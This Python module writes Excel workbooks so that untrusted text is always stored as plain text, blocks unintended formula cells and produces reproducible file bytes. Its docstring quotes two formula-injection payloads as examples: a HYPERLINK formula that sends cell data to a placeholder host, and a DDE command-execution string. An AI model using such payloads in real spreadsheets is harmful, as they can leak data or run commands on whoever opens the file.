"""Shared by every workbook writer (ekspor, reviu, and any later one): text goes into a cell as text.

openpyxl turns a str that starts with '=' into a formula and '#N/A'-like strings into error cells. A name such as
`=HYPERLINK("http://x/?d="&C8)` or a DDE payload `=cmd|' /C calc'!A0` in the content must reach the reviewer as the
characters it is, so every value goes through put(); save() refuses a workbook holding any formula or error cell
the tool did not mean (it means none today), and fixes the timestamps so the same content gives the same bytes.
"""
from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

MAX_CELL_TEXT = 32_767                 # Excel's limit per cell; longer text is cut there (openpyxl cuts it too)
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")     # control characters a worksheet cannot hold


class FormulaCellError(Exception):
    """A formula or error cell the tool did not mean: a bug in a writer, never written to disk."""


def put(cell, value):
    """cell.value = value, a str always as a string cell (never a formula, error or hyperlink)."""
    if isinstance(value, str):
        cell.value = _ILLEGAL.sub("\ufffd", value)[:MAX_CELL_TEXT]
        cell.data_type = "s"
    else:
        cell.value = value
    return cell


def unintended_cells(wb, allowed: frozenset = frozenset()) -> list[str]:
    """'Sheet!A1' of every formula or error cell not in `allowed`."""
    found = []
    for ws in wb.worksheets:
        for cell in ws._cells.values():
            if cell.data_type in ("f", "e") and f"{ws.title}!{cell.coordinate}" not in allowed:
                found.append(f"{ws.title}!{cell.coordinate}")
    return found


def save(wb, stamp: dt.datetime, allowed: frozenset = frozenset()) -> bytes:
    """The workbook as deterministic XLSX bytes; raises FormulaCellError for a formula the tool did not mean."""
    wrong = unintended_cells(wb, allowed)
    if wrong:
        raise FormulaCellError("sel rumus yang tidak dimaksud: " + ", ".join(wrong[:5]))
    raw = io.BytesIO()
    wb.save(raw)
    return fixed_zip(raw.getvalue(), stamp)


def fixed_zip(data: bytes, stamp: dt.datetime) -> bytes:
    """openpyxl stamps 'modified' with the current time, and zip members too: rewrite both with the report's date."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    iso = stamp.strftime("%Y-%m-%dT%H:%M:%SZ")
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in sorted(src.namelist(), key=lambda n: (n != "[Content_Types].xml", n)):
            body = src.read(name)
            if name == "docProps/core.xml":
                body = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                              rb"\g<1>" + iso.encode() + rb"\g<2>", body)
            info = zipfile.ZipInfo(name, stamp.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            dst.writestr(info, body)
    return out.getvalue()


def formula_cells(data: bytes) -> list[str]:
    """'Sheet!A1' of every formula or error cell in XLSX bytes, read back as a spreadsheet program would (tests)."""
    import openpyxl
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return unintended_cells(wb)
